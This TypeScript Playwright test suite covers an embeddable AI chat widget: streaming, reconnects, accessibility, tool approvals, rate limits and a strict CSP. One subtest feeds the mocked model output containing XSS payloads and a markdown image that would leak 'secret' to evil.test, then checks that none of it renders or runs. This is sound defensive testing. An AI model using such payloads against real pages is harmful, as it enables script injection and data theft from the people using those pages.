import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import type { Agent, CreateEmbed, Embed } from '@roundhouse/sdk/contract'
import type { Page } from 'playwright-core'
import { json } from '../src/testing/access-fixture.ts'
import { findChromium, openChromium } from '../src/testing/chromium.ts'
import { testHouse } from '../src/testing/house.ts'
import { httpServer } from '../src/testing/http-server.ts'
import { llmUpstream } from '../src/testing/llm-upstream.ts'
import { until } from '../src/testing/until.ts'

const widget = new URL('../public/widget.js', import.meta.url)
const executable = findChromium()
const skip =
  !existsSync(widget) || executable === undefined ? 'needs the built console and a Chromium' : false

test('the widget is one script without dependencies of less than 30 kB gzip', {
  skip: !existsSync(widget),
}, () => {
  const script = readFileSync(widget)
  assert.ok(gzipSync(script).length < 30_000, `${gzipSync(script).length} bytes`)
  assert.doesNotMatch(script.toString(), /innerHTML|insertAdjacentHTML|document\.write|\beval\(|\bimport\b/)
})

test('an agent answers on the page of another site', { skip, timeout: 150_000 }, async t => {
  const scope = { after }
  const house = await testHouse(scope)
  const ann = await house.user()
  const host = new URL(house.url).origin

  /** What it says next, word by word; the words behind `pauseAt` wait until they are let go. */
  const model = { words: ['Hello'], pauseAt: Number.POSITIVE_INFINITY, gate: Promise.withResolvers<void>() }
  const delta = (content: string) =>
    JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] })
  const upstream = await llmUpstream(scope, () => {
    const { words, pauseAt, gate } = model
    return {
      chunks: [
        ...words.map(delta),
        JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }),
      ],
      before: index => (index === pauseAt ? gate.promise : undefined),
    }
  })
  function says(text: string, pauseAt = Number.POSITIVE_INFINITY): void {
    Object.assign(model, { words: text.match(/\S+\s*/g) ?? [], pauseAt, gate: Promise.withResolvers<void>() })
  }
  await house.fetch(
    '/api/v1/admin/providers/told',
    json('PUT', { base_url: upstream.url, models: [{ name: 'any' }] }),
  )

  async function agentOf(more: object = {}): Promise<Agent> {
    const draft = json('POST', { name: 'Guide', provider: 'told', model: 'any', ...more })
    const { id } = (await (await ann.fetch('/api/v1/agents', draft)).json()) as Agent
    return (await (await ann.fetch(`/api/v1/agents/${id}/publish`, { method: 'POST' })).json()) as Agent
  }
  async function embedOf(agent: Agent, fields: CreateEmbed): Promise<Embed> {
    return (await (
      await ann.fetch(`/api/v1/agents/${agent.id}/embeds`, json('POST', fields))
    ).json()) as Embed
  }

  let tag = ''
  const { url } = await httpServer(scope, (_request, response) => {
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': `default-src 'none'; script-src ${host}; connect-src ${host}; require-trusted-types-for 'script'`,
    })
    response.end(
      `<!doctype html><html lang="en"><title>Shop</title><h1>Shop</h1><a href="#a">First</a>${tag}</html>`,
    )
  })
  const site = url.replace('127.0.0.1', 'localhost')
  const guide = await agentOf()
  const embed = await embedOf(guide, {
    origins: [site],
    theme: {
      title: 'Ask the shop',
      greeting: 'How can we help?',
      suggestions: ['Are you open?'],
      colour: '#0b6e4f',
    },
  })
  tag = `<script src="${host}/widget.js" data-key="${embed.key}" async></script>`

  const context = await openChromium(scope, executable ?? '')
  const asked: string[] = []
  context.on('request', request => asked.push(new URL(request.url()).origin))
  const page = await context.newPage()
  const errors: string[] = []
  page.on('pageerror', error => errors.push(String(error)))
  page.on('console', message => {
    if (message.type() === 'error') errors.push(message.text())
  })
  const message = (on: Page = page) => on.getByRole('textbox', { name: 'Message' })
  const log = (on: Page = page) => on.getByRole('log', { name: 'Conversation' })

  await t.test('asks, streams, and goes on with the same answer after a reload', async () => {
    await page.goto(site)
    await page.getByRole('button', { name: 'Open chat' }).click()
    await page.getByRole('dialog', { name: 'Ask the shop' }).waitFor()
    await page.getByText('How can we help?').waitFor()
    says('Yes, we are **open** until eight.', 3)
    await page.getByRole('button', { name: 'Are you open?' }).click()
    await log().getByText('Yes, we are').waitFor()
    assert.equal(await page.getByRole('button', { name: 'Stop' }).count(), 1, 'the answer is under way')
    await page.reload()
    await log().getByText('Yes, we are').waitFor()
    model.gate.resolve()
    await log().getByText('Yes, we are open until eight.').waitFor()
    assert.equal(await log().getByRole('strong').textContent(), 'open')
    await page.getByRole('button', { name: 'Send' }).waitFor()
    assert.equal(upstream.requests.length, 1, 'nobody was asked twice')
    await page.reload()
    await log().getByText('Yes, we are open until eight.').waitFor()
  })

  await t.test('finds a lost connection again and says nothing twice', async () => {
    says('One two three four five.', 2)
    await message().fill('Count')
    await message().press('Enter')
    await log().getByText('One two', { exact: false }).waitFor()
    house.house.app.server.closeAllConnections()
    await log().getByText('Connection lost').waitFor()
    model.gate.resolve()
    await log().getByText('One two three four five.', { exact: true }).waitFor()
    assert.equal(await log().getByText('Connection lost').count(), 0)
    assert.deepEqual(errors.splice(0), ['Failed to load resource: net::ERR_INCOMPLETE_CHUNKED_ENCODING'])
  })

  await t.test('is stopped, asked again and begun anew', async () => {
    says('Never to be finished.', 1)
    await message().fill('Go')
    await message().press('Enter')
    await log().getByText('Never', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await log().getByText('Stopped.').waitFor()
    model.gate.resolve()
    says('Done.')
    await message().fill('Again')
    await message().press('Enter')
    await log().getByText('Done.').waitFor()
    await page.getByRole('button', { name: 'New conversation' }).click()
    await page.getByRole('button', { name: 'Are you open?' }).waitFor()
    assert.equal(await log().getByText('Done.').count(), 0)
  })

  await t.test('works by keyboard alone, and gives the focus back', async () => {
    await page.reload()
    await message().waitFor()
    await page.keyboard.press('Tab')
    assert.equal(await focused(page), 'First', 'the page keeps its focus')
    await message().focus()
    await page.keyboard.press('Escape')
    assert.equal(await page.getByRole('dialog').count(), 0)
    assert.match(await focused(page), /Open chat/)
    await page.keyboard.press('Enter')
    await page.getByRole('dialog').waitFor()
    await until(async () => (await focused(page)) === 'Message', 'the field has the focus')
    says('Line by line.')
    await page.keyboard.type('one')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('two')
    await page.keyboard.press('Enter')
    await log().getByText('one\ntwo').waitFor()
    await log().getByText('Line by line.').waitFor()
    await until(
      async () => (await page.getByRole('status').allTextContents()).join().includes('Line by line.'),
      'the answer is told to those who listen',
    )
    const seen = new Set<string>()
    for (let presses = 0; presses < 12; presses += 1) {
      await page.keyboard.press('Tab')
      seen.add(await focused(page))
    }
    assert.ok(seen.has('Close') && seen.has('Message'))
    assert.ok(!seen.has('First'), 'Tab stays in the panel')
  })

  await t.test('shows what a model was made to write, and does nothing of it', async () => {
    let dialogs = 0
    page.on('dialog', dialog => {
      dialogs += 1
      void dialog.dismiss()
    })
    says(
      '![cat](https://evil.test/?q=secret) <img src=x onerror=alert(1)> <script>alert(2)</script> [run](javascript:alert(3)) [go](https://evil.test/) End.',
    )
    await message().fill('Injected')
    await message().press('Enter')
    await log().getByText('End.', { exact: false }).waitFor()
    await log().getByText('<img src=x onerror=alert(1)>', { exact: false }).waitFor()
    assert.equal(await page.getByRole('img').count(), 0)
    assert.equal(await log().getByRole('link', { name: 'run' }).count(), 0)
    const link = log().getByRole('link', { name: 'go' })
    assert.deepEqual(
      [await link.getAttribute('href'), await link.getAttribute('rel')],
      ['https://evil.test/', 'noopener noreferrer nofollow ugc'],
    )
    assert.equal(dialogs, 0)
  })

  await t.test('asks before a tool is used, and shows what it was asked and answered', async () => {
    const tools = [{ type: 'time', approval: true }]
    const careful = await agentOf({ name: 'Careful', provider: null, model: 'demo/demo', tools })
    const { key } = await embedOf(careful, { origins: [site], approvals: true, tools: 'full' })
    tag = `<script src="${host}/widget.js" data-key="${key}"></script>`
    await page.goto(`${site}/careful`)
    await page.getByRole('button', { name: 'Open chat' }).click()
    await message().fill('call time {}')
    await message().press('Enter')
    await log().getByText('May it use time?').waitFor()
    await log().getByText('Would use time').waitFor()
    await page.reload()
    await log().getByRole('button', { name: 'Allow' }).click()
    await log().getByText('Used time').click()
    await log().getByText('Answered', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Send' }).waitFor()
    assert.equal(await log().getByRole('button', { name: 'Allow' }).count(), 0)
  })

  await t.test('says so when a limit is reached, and covers the page on a phone', async () => {
    const small = await embedOf(guide, { origins: [site], runs_per_minute: 1 })
    tag = `<script src="${host}/widget.js" data-key="${small.key}" data-open data-title="Small" data-theme="dark"></script>`
    await page.setViewportSize({ width: 360, height: 640 })
    await page.emulateMedia({ reducedMotion: 'reduce' })
    await page.goto(`${site}/small`)
    await until(async () => {
      const box = await page.getByRole('dialog', { name: 'Small' }).boundingBox()
      return JSON.stringify(box) === '{"x":0,"y":0,"width":360,"height":640}'
    }, 'the panel covers the page')
    const animation = await page.evaluate(
      `getComputedStyle(document.querySelector('[data-roundhouse]').shadowRoot.querySelector('.panel')).animationName`,
    )
    assert.equal(animation, 'none', 'nothing moves for those who want nothing to move')
    says('First.')
    await message().fill('One')
    await message().press('Enter')
    await log().getByText('First.').waitFor()
    await message().fill('Two')
    await message().press('Enter')
    await log()
      .getByText(/You ask faster than you may/)
      .waitFor()
    await page.getByRole('button', { name: 'Try again' }).waitFor()
    // The browser's own line of a request that was refused.
    assert.deepEqual(errors.splice(0), [
      'Failed to load resource: the server responded with a status of 429 (Too Many Requests)',
    ])
  })

  await t.test('ends an answer when its key is switched off, and looks for nothing any more', async () => {
    const path = `/api/v1/agents/${guide.id}/embeds`
    const { id, key } = await embedOf(guide, { origins: [site] })
    tag = `<script src="${host}/widget.js" data-key="${key}" data-open></script>`
    await page.goto(`${site}/off`)
    says('Begun and not ended.', 1)
    await message().fill('Go')
    await message().press('Enter')
    await log().getByText('Begun', { exact: true }).waitFor()
    await ann.fetch(`${path}/${id}`, json('PATCH', { enabled: false }))
    await log().getByText('it is switched off').waitFor()
    assert.equal(await log().getByText('Connection lost').count(), 0)
    model.gate.resolve()
    assert.deepEqual(errors.splice(0), [
      'Failed to load resource: the server responded with a status of 404 (Not Found)',
    ])
  })

  await t.test(
    'has a page of its own: for everyone by an embed, else for those who sign in, who come back',
    async () => {
      await page.setViewportSize({ width: 1280, height: 800 })
      const open = await agentOf({ name: 'Open agent', description: 'For everyone.' })
      await embedOf(open, { share_page: true, theme: { suggestions: ['Who are you?'] } })
      const opened = await page.goto(`${host}/a/${open.slug}`)
      const policy = opened?.headers()['content-security-policy'] ?? ''
      assert.match(policy, /default-src 'none'; script-src 'self'; style-src 'self';/)
      assert.doesNotMatch(policy, /unsafe|data:|\*/)
      await page.getByRole('heading', { name: 'Open agent' }).waitFor()
      says('I am open.')
      await page.getByRole('button', { name: 'Who are you?' }).click()
      await log().getByText('I am open.').waitFor()

      const shared = await agentOf({ name: 'For users', visibility: 'users' })
      const account = { email: 'reader@example.com', password: 'a long password', name: 'Reader' }
      const made = await house.anonymous('/api/auth/sign-up/email', json('POST', account))
      assert.equal(made.status, 200, await made.text())
      await page.goto(`${host}/a/${shared.slug}`)
      await page.getByRole('link', { name: 'Sign in' }).click()
      await page.getByLabel('E-mail').fill(account.email)
      await page.getByLabel('Password').fill(account.password)
      await page.getByRole('button', { name: 'Sign in' }).click()
      await page.getByRole('heading', { name: 'For users' }).waitFor()
      says('Welcome back.')
      await message().fill('Hi')
      await message().press('Enter')
      await log().getByText('Welcome back.').waitFor()
      assert.equal(
        await page.getByRole('button', { name: 'Use it' }).isVisible(),
        false,
        'it is not theirs to give away',
      )
    },
  )

  assert.deepEqual([...new Set(asked)].sort(), [host, site].sort(), 'nobody else was asked for anything')
  assert.deepEqual(
    errors.filter(error => !error.includes('401')),
    [],
  )
})

/** The label or text of what has the focus, in a shadow root too. */
function focused(page: Page): Promise<string> {
  return page.evaluate(`(() => {
    let at = document.activeElement
    while (at && at.shadowRoot && at.shadowRoot.activeElement) at = at.shadowRoot.activeElement
    return at ? (at.getAttribute('aria-label') || at.textContent || at.tagName) : ''
  })()`)
}
